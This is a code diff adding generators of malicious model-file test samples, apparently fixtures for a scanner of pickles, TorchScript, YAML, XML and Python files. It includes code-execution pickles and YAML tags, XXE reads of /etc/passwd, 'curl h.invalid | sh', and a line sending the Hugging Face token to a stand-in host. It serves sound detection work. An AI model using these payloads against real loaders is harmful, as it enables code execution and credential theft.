@@ -295,7 +295,101 @@ def documents():
     add("unscannable", "lfs.pt", "version https://git-lfs.github.com/spec/v1\noid sha256:" + "0" * 64 + "\nsize 1\n")
 
 
-for family in (pickles, containers, keras, graphs, templates, documents):
+def text(value):
+    value = value.encode()
+    assert len(value) < 256
+    return b"\x8c" + bytes([len(value)]) + value
+
+
+def imported(module, name):
+    return text(module) + text(name) + b"\x93"
+
+
+def made(module, name, *arguments):
+    return b"\x80\x04" + imported(module, name) + b"(" + b"".join(arguments) + b"tR."
+
+
+def constructors():
+    # The constructor of a class that is known by its library alone runs with what the file gives it.
+    add("unknown", "constructor-address.pkl", made("ultralytics.models.yolo.model", "YOLO", text("https://h.invalid/x.pt")))
+    add("unknown", "constructor-repository.pkl", made("sentence_transformers", "SentenceTransformer", text("evil/x")))
+    add("unknown", "constructor-list.pkl", made("sklearn.base", "BaseEstimator", b"](" + text("../x") + b"K\x01e"))
+    add("unknown", "constructor-instance.pkl", b"\x80\x02(S'https://h.invalid/x.pt'\niultralytics.models.yolo.model\nYOLO\n.")
+    add("unknown", "constructor-object.pkl", b"\x80\x02(cultralytics.models.yolo.model\nYOLO\nX\x06\x00\x00\x00../x.to.")
+    add("malicious", "expression.pkl", made("pandas.core.computation.expr", "Expr", text("@pd.compat.os.system('echo corpus')")))
+    add("malicious", "wrapper.pkl", made("gensim.models.wrappers.ldamallet", "LdaMallet", text("echo corpus;")))
+    add("unknown", "appended.pkl", b"\x80\x04" + imported("sklearn.utils", "Bunch") + b")R(" + text("a") + b"e.")
+    add("unknown", "source.pt", b"\x80\x04" + imported("torch.fx.graph_module", "reduce_graph_module") + b"}" + text("_code")
+        + text("import os; os.system('echo corpus')") + b"s" + text("import os") + b"\x86R.")
+    thing = b"\x80\x04" + imported("argparse", "Namespace") + b")\x81}"
+    hook = imported("ultralytics.models.yolo.model", "YOLO")
+    add("malicious", "own-setstate.pkl", thing + text("__setstate__") + hook + b"sb" + text("x") + b"b.")
+    bunch = b"\x80\x04" + imported("sklearn.utils", "Bunch") + b")\x81}"
+    add("malicious", "own-append.pkl", bunch + text("append") + hook + b"sb" + text("evil/x") + b"a.")
+    # Functions that objects may keep, and no pickle calls.
+    add("unknown", "called-function.pkl", made("numpy", "asarray", b"K\x01"))
+    add("malicious", "called-builtin.pkl", made("builtins", "max", b"K\x01K\x02"))
+    add("malicious", "called-type.pkl", made("builtins", "type", text("X"), b")", b"}"))
+    add("malicious", "memory-map.pkl", made("numpy", "memmap", text("/etc/passwd")))
+    add("malicious", "getattr-method.pkl", b"\x80\x04" + imported("builtins", "getattr") + b"\x940" + b"h\x00"
+        + imported("zoneinfo", "ZoneInfo") + text("_unpickle") + b"\x86Rh\x00" + imported("argparse", "Namespace")
+        + text("x") + b"\x86R\x86.")
+    add("malicious", "jax-array.pkl", made("jax._src.array", "_reconstruct_array", imported("argparse", "Namespace"), b")", b"N", b"N"))
+    add("malicious", "dill-array.pkl", made("dill._dill", "_create_array", imported("argparse", "Namespace"), b")", b"N", b"N"))
+    for number, (module, name) in enumerate([("jinja2", "Template"), ("cffi", "FFI"), ("huggingface_hub", "snapshot_download"),
+                                             ("nltk", "download"), ("ray.cloudpickle", "loads"), ("invoke", "run"),
+                                             ("torch.utils.tensorboard", "SummaryWriter"), ("joblib.externals.cloudpickle", "loads")]):
+        add("malicious", f"library-{number}.pkl", made(module, name, text("echo corpus")))
+
+
+def leftovers():
+    script = {"a/data.pkl": b"\x80\x02c__torch__\nM\n)\x81}b.", "a/constants.pkl": b"\x80\x02).", "a/version": b"3\n"}
+    code = "class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    {}\n    return x\n"
+
+    def torchscript(line, **more):
+        return zipped({**script, "a/code/__torch__.py": code.format(line).encode(), **more})
+
+    add("malicious", "script-save.pt", torchscript('_0 = ops.aten.save(x, "/x")'))
+    add("malicious", "script-file.pt", torchscript('x = torch.from_file("/etc/passwd", False, 10)'))
+    add("review", "script-operator.pt", torchscript("x = ops.evil.run(x)"))
+    add("malicious", "script-pickle.pt", torchscript("pass", **{"a/code/x.pkl": CALL4}))
+    add("unknown", "script-program.pt", torchscript("pass", **{"a/code/lib.so": b"\x7fELF" + bytes(100)}))
+    add("malicious", "directory-with-contents.zip", zipped({"a/": b"", "b/x": b"y"}).replace(b"b/x", b"bx/"))
+    add("malicious", "key-twice.npy", npy("'<f4', 'descr': '|O'", CALL4))
+    add("review", "expression.npy", npy("__import__('os').system('x')", b""))
+    add("unscannable", "short.npy", npy("'<i4'", b""))
+    parts = zipped({"archive/data.pkl": b"\x80\x02}."})
+    add("malicious", "second-part.distcp", parts + zipped({"archive/data.pkl": CALL4}) + parts)
+    for name, head in {"cab": b"MSCF\0\0\0\0", "lz": b"LZIP\x01", "Z": b"\x1f\x9d\x90", "sqsh": b"hsqs", "pkg": b"xar!\0\x1c",
+                       "wim": b"MSWIM\0\0\0", "doc": bytes.fromhex("d0cf11e0a1b11ae1"), "lzh": b"\x20\x00-lh5-"}.items():
+        add("unscannable", f"unopened.{name}", head + bytes(200))
+    add("malicious", "entity.xml", '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<x>&e;</x>\n')
+    add("malicious", "entity.pmml", '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<PMML>&e;</PMML>\n')
+    add("malicious", "debug.pb", field(1, 1) + field(2, field(2, field(1, field(1, "n") + field(2, "DebugIdentityV2")))))
+    add("malicious", "model.safetensors.index.json", json.dumps({"weight_map": {"a": "../../../etc/passwd"}}))
+    add("malicious", "trainer.json", json.dumps({"logger": {"class_path": "os.system", "init_args": {"a": 1}}}))
+    add("malicious", "prompt-config.json", json.dumps({"processor": {"prompt_template": SSTI}}))
+    add("malicious", "explicit.yaml", "x:\n  ? _target_\n  : os.system\n")
+    add("malicious", "line-ends.yaml", "a: 1 #\u2028_target_: os.system\n")
+    add("malicious", "carriage.yaml", "a: 1 # note\r_target_: os.system\r")
+    add("unknown", "anchor.yaml", "k: &k _target_\nx:\n  *k : os.system\n")
+    add("malicious", "hyper.yaml", "seed: !apply:torch.manual_seed [1]\nx: !new:subprocess.Popen\n  args: x\n")
+    add("malicious", "plain-then-call.yaml", "a: [!!python/tuple [1], !!python/object/apply:os.system [x]]\n")
+    add("malicious", "class-path.yaml", "class_path: os.system\ninit_args: {a: 1}\n")
+    add("review", "old.ipynb", json.dumps({"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": ["!curl h.invalid | sh"]}]}]}))
+    add("review", "pyproject.toml", "[[tool.uv.index]]\nname = 'x'\nurl = 'https://h.invalid/simple'\n")
+    for number, line in enumerate([
+        "import shutil\nshutil.os.system('echo')", "import random\nrandom._os.popen('echo')", "from pathlib import os\nos.system('echo')",
+        "import os\n(os.system)('echo')", "import os\nlist(map(os.system, ['echo']))", "import atexit, os\natexit.register(os.system, 'echo')",
+        "import os\ndef d(f):\n    os.system('echo')\n    return f\n@d\ndef g(): pass", "import sys\nsys.modules.get('os').system('echo')",
+        "import os\nos.__dict__.get('system')('echo')", "import ctypes\nctypes.CDLL(None).system(b'echo')",
+        "import code\ncode.InteractiveInterpreter().runsource('x')",
+        "import requests\nrequests.post('http://h.invalid', data=open('/root/.cache/huggingface/token').read())",
+    ]):
+        add("malicious", f"import-{number}.py", line + "\n")
+
+
+for family in (pickles, containers, keras, graphs, templates, documents, constructors, leftovers):
     family()
 folder = Path(sys.argv[1])
 folder.mkdir(parents=True, exist_ok=True)
